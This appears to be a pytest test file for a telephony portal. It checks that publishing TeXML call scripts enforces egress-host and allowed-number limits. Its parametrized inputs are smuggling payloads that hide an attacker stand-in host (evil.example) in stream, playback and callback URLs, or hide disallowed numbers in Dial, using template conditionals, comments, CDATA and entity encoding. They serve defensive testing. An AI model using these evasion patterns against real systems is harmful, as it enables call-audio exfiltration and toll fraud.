"""Publishing judges all that a document can say, whichever sections of it a fetch chooses."""

from typing import Any

import pytest
from rest_framework.test import APIClient

from portal.models import TelnyxAccount
from tests.support.documents import fetch, make_document, published
from tests.support.limits import limit
from tests.support.rest import api_for, problem
from tests.support.rows import TexmlDocument, TexmlVersion

pytestmark = [pytest.mark.django_db, pytest.mark.alone]
URL = "/api/v1/texml/documents/"
OPERATOR = ("publish_texmldocument", "view_texmldocument", "control_call", "dial", "listen_recording")


def publish(api: APIClient, document: TexmlDocument) -> Any:
    return api.post(f"{URL}{document.pk}/publish/", {"confirmed": True}, format="json")


@pytest.fixture
def operator_api(user_with: Any) -> APIClient:
    return api_for(user_with(*(f"voice.{name}" for name in OPERATOR)))


@pytest.mark.parametrize(
    "inside",
    [
        '<Start><Stream url="wss:/{{#if From == z}}{{/if}}/evil.example/s"/></Start>',
        '<Start><Stream url="wss:/{{ Nobody }}/evil.example/s"/></Start>',
        '<Start><Stream url="wss:/{{ To | allow /evil.example }}/s"/></Start>',
        '<!-- {{ --><Start><Stream url="wss://evil.example/s"/></Start><!-- }} -->',
        "<Play>https:{{#From}}{{/From}}//evil.example/a.mp3</Play>",
        "<Play>https:<![CDATA[/{{#if From == z}}]]>x{{#else}}/evil.example{{/if}}</Play>",
        '<Gather action="https:/&#123;{#if From == z}}{{/if}}/evil.example"><Say>Press.</Say></Gather><Hangup/>',
        '<Record action="/a" recordingStatusCallback="{{^From}}https://evil.example{{/From}}"/>',
        '{{#if From == z}}<Start><Stream url="wss://{{#if To == z}}a{{/if}}evil.example/s"/></Start>{{/if}}',
    ],
)
def test_a_host_that_a_section_writes_is_held_to_the_limits(
    operator_api: APIClient, account: TelnyxAccount, inside: str
) -> None:
    document = make_document(account, f"<Response>{inside}</Response>")
    problem(publish(operator_api, document), 403, "limit_exceeded")
    limit(account, egress_hosts=["good.example"])
    problem(publish(operator_api, document), 403, "limit_exceeded")
    assert not TexmlVersion.objects.exists()


@pytest.mark.parametrize(
    "number",
    [
        "+{{#if From == z}}1{{/if}}2673555010",
        "+{{^From}}1{{/From}}2673555010",
        "{{#if From == z}}+13125550100{{#else}}+26773555010{{/if}}",
        "+{{ To | allow 1 267 }}{{ From | allow 3125550100 73555010 }}",
        "+1{{#if From == z}}312{{#else}}900{{/if}}5550100",
    ],
)
def test_a_number_that_a_section_writes_is_held_to_the_limits(
    api: APIClient, account: TelnyxAccount, number: str
) -> None:
    limit(account, allowed_countries=["US"])
    document = make_document(account, f"<Response><Dial><Number>{number}</Number></Dial></Response>")
    problem(publish(api, document), 400)
    assert not TexmlVersion.objects.exists()


@pytest.mark.parametrize(
    "inside",
    [
        "<Number>{{#if Digits == 1}}+13125550100{{#else}}+13125550101{{/if}}</Number>",
        "<Number>{{#if Digits == 1}}+13125550100{{/if}}{{#if Digits == 2}}+13125550101{{/if}}</Number>",
        "<Number>{{#if A == 555}}{{ To | allow +13125550100 }}{{#else}}{{ B | allow +13125550101 }}{{/if}}</Number>",
        "<Number>+1312{{ A | allow 555 556 }}{{ B | allow 0100 0101 }}</Number>",
        "{{#if Digits == 1}}<Number>+13125550100</Number>{{/if}}{{#From}}<Number>+13125550101</Number>{{/From}}",
        '<Number url="https://{{#if Digits == 1}}a{{#else}}b{{/if}}.good.example/{{ To }}">+13125550100</Number>',
    ],
)
def test_honest_sections_are_published_and_served(
    api: APIClient, account: TelnyxAccount, client: Any, inside: str
) -> None:
    limit(account, allowed_countries=["US"], egress_hosts=["*.good.example"])
    document = make_document(account, f"<Response><Dial>{inside}</Dial></Response>")
    answer = publish(api, document)
    assert answer.status_code == 201, answer.content
    sent = {"Digits": "1", "To": "+13125550100", "A": "555", "B": "0100"}
    assert "+13125550100" in fetch(client, document, **sent).content.decode()


def test_who_may_not_dial_hides_no_call_between_comments(account: TelnyxAccount, user_with: Any) -> None:
    document = make_document(account, "<Response><!-- {{ --><Dial>+13125550100</Dial><!-- }} --></Response>")
    client = api_for(user_with("voice.publish_texmldocument", "voice.view_texmldocument"))
    assert "voice.dial" in problem(publish(client, document), 403)["detail"]


def test_what_cannot_be_judged_is_a_finding_and_a_version_of_it_does_not_come_back(
    api: APIClient, account: TelnyxAccount, client: Any
) -> None:
    document = make_document(account, "<Response><Dial>+1312555{{#A}}0100{{/A}}</Dial></Response>")
    assert ("T04", "error") in {(one["rule"], one["level"]) for one in api.get(f"{URL}{document.pk}/lint/").json()}
    assert "T04" in str(problem(publish(api, document), 400)["errors"]["draft"])
    old = {"variables": {}, "apology": document.apology, "author": "somebody", "findings": [], "digest": "0" * 64}
    TexmlVersion.objects.create(document=document, number=1, source=document.draft, **old)
    TexmlDocument.objects.filter(pk=document.pk).update(published=1)
    assert "+13125550100" in fetch(client, document, A="1").content.decode()  # what was published is served as it was
    answer = api.post(f"{URL}{document.pk}/roll-back/", {"version": 1}, format="json")
    assert "T04" in str(problem(answer, 400)["errors"]["draft"])


def test_a_number_that_the_limits_name_is_masked_where_a_version_is_published_again(
    signed_in: Any, account: TelnyxAccount
) -> None:
    limit(account, allowed_prefixes=["+1312555"])
    document = published(account, "<Response><Dial>+13125550199</Dial></Response>")
    limit(account, blocked_prefixes=["+13125550199"])
    masked = signed_in(*(f"voice.{name}" for name in OPERATOR))
    page = f"/admin/voice/texmldocument/{document.pk}/"
    for answer in (
        masked.post(f"{page}roll-back/", {"version": "1"}, follow=True),
        masked.post(f"{page}publish/", {"digest": document.digest, "confirmed": "on"}),
    ):
        told = answer.content.decode()
        assert "may not be called" in told
        assert "5550199" not in told
    assert document.versions.count() == 1
